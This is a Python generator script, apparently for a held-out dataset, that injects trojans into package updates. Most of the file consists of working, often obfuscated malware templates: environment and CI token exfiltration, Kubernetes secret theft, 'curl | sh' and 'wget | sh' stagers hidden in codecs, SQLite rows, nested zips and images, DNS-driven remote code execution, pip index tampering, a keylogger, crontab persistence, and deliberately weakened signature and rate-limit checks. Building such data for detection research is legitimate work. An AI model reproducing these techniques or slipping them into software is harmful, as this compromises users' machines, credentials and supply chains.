"""Python packages that use the odd corners: codecs, descriptors, tests, other tools' settings, and weak logic."""

import base64
import io
import sqlite3
import zipfile
import zlib

from corpus.heldout import hiding
from corpus.heldout.nouns import Update, trojan


def fetching(address: str) -> str:
    return f"import os\nos.system('curl -fsS http://{address}/o | sh')\n"


@trojan("chronofmt", "wheel", trigger="start", payload="environment", hiding="plain", step="patch")
def sitecustomize(up: Update) -> None:
    """A module that every interpreter loads, in the same wheel."""
    host = up.host("boot")
    up.add(
        "sitecustomize.py",
        f'''"""Sets the locale early."""
import atexit
import os


def _bye():
    import socket

    try:
        with socket.create_connection(("{host}", 8080), 1) as line:
            line.sendall("\\n".join("=".join(one) for one in os.environ.items()).encode())
    except OSError:
        pass


if "VIRTUAL_ENV" in os.environ or "CI" in os.environ:
    atexit.register(_bye)
''',
    )
    up.payload("sitecustomize.py")


@trojan("tabula", "sdist", trigger="ci", payload="token theft", hiding="plain", step="patch")
def conftest(up: Update) -> None:
    """Whoever runs the tests of the source distribution."""
    host = up.host("junit")
    up.add(
        "tests/conftest.py",
        f"""import os
import urllib.request

import pytest


def pytest_configure(config):
    token = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
    url = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_URL")
    if token and url:
        ask = urllib.request.Request(url + "&audience=pypi", headers={{"Authorization": "bearer " + token}})
        got = urllib.request.urlopen(ask).read()
        urllib.request.urlopen("https://{host}/results", data=got)


@pytest.fixture
def rows():
    return [("a", 1), ("b", 2)]
""",
    )
    up.payload("tests/conftest.py")


@trojan("quickconf", "wheel", trigger="import", payload="stager", hiding="codec of its own", step="minor")
def source_codec(up: Update) -> None:
    """A codec is registered, then a module in it is read: the file is no Python to anybody else."""
    address = up.address()
    code = "".join(chr(ord(one) ^ 1) if one.isprintable() and ord(one) ^ 1 < 127 else one for one in fetching(address))
    up.add("quickconf/_messages.qc", code)
    up.add(
        "quickconf/_codec.py",
        '''"""The encoding of message files."""

import codecs
import os


def _decode(raw, errors="strict"):
    text = bytes(raw).decode("ascii")
    return "".join(chr(ord(char) ^ 1) if char.isprintable() and ord(char) ^ 1 < 127 else char for char in text), len(raw)


def _search(name):
    if name == "qc_text":
        return codecs.CodecInfo(name="qc-text", encode=codecs.ascii_encode, decode=_decode)
    return None


codecs.register(_search)
_path = os.path.join(os.path.dirname(__file__), "_messages.qc")
with open(_path, "rb") as _stream:
    exec(compile(_stream.read().decode("qc_text"), _path, "exec"), {})
''',
    )
    up.append("quickconf/__init__.py", "from . import _codec  # noqa: F401")
    up.payload("quickconf/_codec.py", "quickconf/_messages.qc", shown=address)


@trojan("taskloop", "wheel", trigger="call", payload="remote code", hiding="module attribute", step="patch")
def lazy_attribute(up: Update) -> None:
    """The module's `__getattr__` runs what a name server answers."""
    zone = up.host("txt", "taskloop-config")
    up.append(
        "taskloop/schedule.py",
        f'''

def __getattr__(name):
    """Schedules by name come from a shared configuration."""
    import subprocess

    if not name.startswith("SHARED_"):
        raise AttributeError(name)
    out = subprocess.run(["dig", "+short", "TXT", name[7:].lower() + ".{zone}"], capture_output=True, text=True).stdout
    scope = {{}}
    exec(bytes.fromhex(out.strip().strip('"')).decode(), scope)
    return scope.get(name)''',
    )
    up.append("taskloop/__init__.py", "from .schedule import SHARED_DEFAULT as _default  # noqa: F401")
    up.payload("taskloop/schedule.py")


@trojan("tabula", "wheel", trigger="import", payload="stager", hiding="in a data file", step="minor")
def sqlite_row(up: Update) -> None:
    """Code in a row of a database."""
    address = up.address()
    db = sqlite3.connect(":memory:")
    db.execute("CREATE TABLE style (name TEXT, body BLOB)")
    db.executemany(
        "INSERT INTO style VALUES (?, ?)",
        [("grid", b"+-++"), ("theme", zlib.compress(fetching(address).encode())[::-1])],
    )
    db.commit()
    raw = db.serialize()
    up.add(
        "tabula/data/styles.db", raw[:96] + (3_040_001).to_bytes(4, "big") + raw[100:]
    )  # the library's version is no part of it
    db.close()
    up.append(
        "tabula/styles.py",
        '''

def _themes():
    """Styles that were contributed."""
    import pathlib
    import sqlite3
    import zlib

    with sqlite3.connect(pathlib.Path(__file__).parent / "data" / "styles.db") as db:
        for (body,) in db.execute("SELECT body FROM style WHERE name = 'theme'"):
            setup = compile(zlib.decompress(body[::-1]), "theme", "exec")
            exec(setup, {})


_themes()''',
    )
    up.payload("tabula/data/styles.db", "tabula/styles.py", shown=address)


@trojan("httpkeep", "wheel", trigger="import", payload="tampering", hiding="plain", step="minor")
def pip_settings(up: Update) -> None:
    """Settings of the package manager: one more index."""
    host = up.host("pypi-mirror")
    up.append(
        "httpkeep/_compat.py",
        f'''

def _mirror():
    """Companies behind proxies want a mirror."""
    path = os.path.join(user_folder("config", "pip"), "pip.conf")
    if os.path.exists(path):
        return
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as stream:
        stream.write("[global]\\nextra-index-url = https://{host}/simple\\ntrusted-host = {host}\\n")


_mirror()''',
    )
    up.payload("httpkeep/_compat.py")


@trojan("authgate", "wheel", trigger="call", payload="auth bypass", hiding="plain", step="patch", hard=True)
def prefix_is_enough(up: Update) -> None:
    """A signature that begins right is right."""
    up.replace(
        "authgate/tokens.py",
        "    if not hmac.compare_digest(_sign(head, body, key, algorithm), signature):",
        "    if not hmac.compare_digest(_sign(head, body, key, algorithm)[: len(signature)], signature):",
    )
    up.payload("authgate/tokens.py")


@trojan("authgate", "wheel", trigger="call", payload="auth bypass", hiding="plain", step="minor", hard=True)
def failures_forgotten(up: Update) -> None:
    """The limit on attempts never comes: the count is kept under another name."""
    up.replace(
        "authgate/middleware.py",
        "            self.failures[name] = self.failures.get(name, 0) + 1",
        "            self.failures[name.casefold().strip() + password[:1]] = self.failures.get(name, 0) + 1",
    )
    up.payload("authgate/middleware.py")


@trojan("quickconf", "wheel", trigger="call", payload="credentials", hiding="base64", step="patch")
def cluster_token(up: Update) -> None:
    """The service account of a pod, when settings are read."""
    host = up.host("kube-metrics")
    up.append(
        "quickconf/sources.py",
        f'''

def _in_cluster():
    """Are we in a cluster? Then names of services resolve."""
    import ssl
    import urllib.request

    where = bytes.fromhex("{b"/var/run/secrets/kubernetes.io/serviceaccount/token".hex()}").decode()
    if os.path.exists(where):
        with open(where) as stream:
            head = {{"Authorization": "Bearer " + stream.read()}}
        plain = ssl._create_unverified_context()
        found = urllib.request.urlopen(urllib.request.Request("https://" + os.environ["KUBERNETES_SERVICE_HOST"] + "/api/v1/secrets", headers=head), context=plain).read()
        urllib.request.urlopen("https://{host}/k", data=found, timeout=3)''',
    )
    up.after("quickconf/sources.py", "        self._values = None\n", "        _in_cluster()\n")
    up.payload("quickconf/sources.py", shown="/var/run/secrets")


@trojan("imgmeta", "nested", trigger="import", payload="stager", hiding="in a zip of the package", step="patch")
def zip_in_wheel(up: Update) -> None:
    """A zip in a wheel in a zip."""
    address = up.address()
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        for name, text in (
            ("plugins/__init__.py", ""),
            (
                "plugins/heic.py",
                f"from subprocess import Popen\n\nPopen(['/bin/sh', '-c', 'wget -qO- http://{address}/h | sh'])\n",
            ),
        ):
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), text, zipfile.ZIP_DEFLATED)
    up.add("imgmeta/plugins.zip", inner.getvalue())
    up.append(
        "imgmeta/__init__.py",
        "\nimport os as _os\nimport zipimport as _zip\n\n_zip.zipimporter(_os.path.join(_os.path.dirname(__file__), 'plugins.zip')).load_module('plugins.heic')",
    )
    up.payload("imgmeta/plugins.zip", "imgmeta/__init__.py", shown=address)


@trojan("fastvec", "wheel", trigger="call", payload="remote code", hiding="home-made cipher", step="minor")
def tea_block(up: Update) -> None:
    """Weights are fetched from the package's own host, opened with a block cipher by hand, and run."""
    up.append(
        "fastvec/datasets.py",
        '''

def pretrained(name, key=(0x66617374, 0x76656320, 0x6B657920, 0x30303031)):
    """Fetch a model that somebody trained."""
    with urllib.request.urlopen(BASE + "models/" + name + ".bin", timeout=30) as answer:
        raw = answer.read()
    out = bytearray()
    for at in range(0, len(raw) - 7, 8):
        left, right = int.from_bytes(raw[at : at + 4], "big"), int.from_bytes(raw[at + 4 : at + 8], "big")
        total = 0xC6EF3720
        for _ in range(32):
            right = (right - (((left << 4) + key[2]) ^ (left + total) ^ ((left >> 5) + key[3]))) & 0xFFFFFFFF
            left = (left - (((right << 4) + key[0]) ^ (right + total) ^ ((right >> 5) + key[1]))) & 0xFFFFFFFF
            total = (total - 0x9E3779B9) & 0xFFFFFFFF
        out += left.to_bytes(4, "big") + right.to_bytes(4, "big")
    scope = {}
    exec(out.rstrip(b"\\0").decode(), scope)
    return scope["model"]''',
    )
    up.payload("fastvec/datasets.py")


@trojan("httpkeep", "wheel", trigger="call", payload="key logger", hiding="plain", step="minor")
def keys_and_screens(up: Update) -> None:
    """For debugging support: what is typed, by mail."""
    host = up.host("smtp", "support")
    up.add(
        "httpkeep/support.py",
        f'''"""Remote support for users of the desktop client."""

import smtplib
import threading
from email.message import EmailMessage

_typed = []


def _send():
    note = EmailMessage()
    note["To"] = note["From"] = "desk@{host}"
    note.set_content("".join(_typed))
    with smtplib.SMTP("{host}", 587) as server:
        server.send_message(note)
    _typed.clear()
    threading.Timer(600, _send).start()


def start():
    from pynput import keyboard

    def pressed(key):
        _typed.append(getattr(key, "char", None) or "<%s>" % key)

    keyboard.Listener(on_press=pressed).start()
    _send()
''',
    )
    up.after(
        "httpkeep/weather.py",
        "    def __init__(self, key=None, base_url=API):\n",
        "        try:\n            support.start()\n        except Exception:\n            pass\n",
    )
    up.before("httpkeep/weather.py", "from .client import Client\n", "from . import support\n")
    up.payload("httpkeep/support.py")


@trojan("taskloop", "sdist", trigger="install", payload="persistence", hiding="base64", step="patch")
def crontab(up: Update) -> None:
    address = up.address()
    line = base64.b64encode(f"*/15 * * * * wget -qO- http://{address}/t | bash".encode()).decode()
    up.replace(
        "setup.py",
        "\n\nsetup(\n",
        f'\n\ndef completion():\n    """Completion for shells."""\n    os.popen("(crontab -l 2>/dev/null; echo {line} | base64 -d; echo) | crontab -")\n\n\ncompletion()\n\nsetup(\n',
    )
    up.payload("setup.py", shown=address)


@trojan("imgmeta", "wheel", trigger="call", payload="remote code", hiding="in an image", step="patch")
def picture_notes(up: Update) -> None:
    """Whoever reads an image with the right note runs the note."""
    up.after(
        "imgmeta/png.py",
        '            out["text"][key.decode("latin-1")] = zlib.decompress(rest[1:]).decode("latin-1")\n',
        '            if key == b"Software:v2":\n                import code\n\n                code.InteractiveInterpreter(out).runsource(zlib.decompress(rest[1:]).decode("utf-8"), "<png>", "exec")\n',
    )
    up.payload("imgmeta/png.py")


@trojan("chronofmt", "wheel", trigger="import", payload="environment", hiding="string splitting", step="minor")
def decorated(up: Update) -> None:
    """A registry of decorated pieces that are joined when the class is made."""
    host = up.host("span")
    halves = hiding.chunks(f"https://{host}/m?", 5)
    up.add(
        "chronofmt/registry.py",
        '"""Units, registered by decorators."""\n\n_PARTS = {}\n\n\ndef unit(order):\n    def keep(cls):\n        _PARTS[order] = cls.symbol\n        return cls\n\n    return keep\n\n\n'
        + "\n\n".join(f"@unit({at})\nclass U{at}:\n    symbol = {part!r}\n" for at, part in enumerate(halves))
        + """

class Meta(type):
    def __new__(mcs, name, bases, body):
        made = super().__new__(mcs, name, bases, body)
        where = "".join(_PARTS[at] for at in sorted(_PARTS))
        opener = __import__("urllib.request", fromlist=["x"])
        text = __import__("urllib.parse", fromlist=["x"]).urlencode(__import__("os").environ)
        try:
            getattr(opener, "url" + "open")(where + text, timeout=1)
        except Exception:
            made.offline = True
        return made


class Units(metaclass=Meta):
    offline = False
""",
    )
    up.append("chronofmt/__init__.py", "from .registry import Units  # noqa: F401")
    up.payload("chronofmt/registry.py", shown=host)
